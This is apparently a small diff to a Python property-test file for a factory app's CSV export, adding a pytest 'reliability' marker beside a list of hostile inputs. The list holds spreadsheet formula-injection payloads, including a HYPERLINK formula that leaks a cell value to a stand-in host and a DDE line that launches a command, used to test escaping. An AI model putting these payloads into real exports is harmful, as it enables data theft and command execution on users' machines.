@@ -19,6 +19,8 @@ from factory_app.io.csv_export import FORMULA_STARTS, write_results_csv
 from factory_app.io.scenario_file import load_scenario, save_scenario
 from reliability_helpers import EXAMPLES, examples
 
+pytestmark = pytest.mark.reliability  # property and attack tests (docs/reliability.md)
+
 HOSTILE = st.one_of(
     st.sampled_from([
         '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
